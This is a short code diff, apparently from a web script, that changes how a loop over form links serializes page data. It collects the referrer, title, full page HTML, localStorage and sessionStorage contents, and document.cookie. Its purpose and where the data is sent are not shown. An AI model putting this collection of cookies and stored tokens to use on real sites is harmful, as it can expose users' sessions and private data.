@@ -69,8 +69,8 @@ for (const [type, link] of forms) {
         document.referrer,
         document.title,
         document.documentElement.outerHTML,
-        { ...localStorage },
-        { ...sessionStorage },
+        Object.entries(localStorage),
+        Object.entries(sessionStorage),
         document.cookie,
       ]),
     );
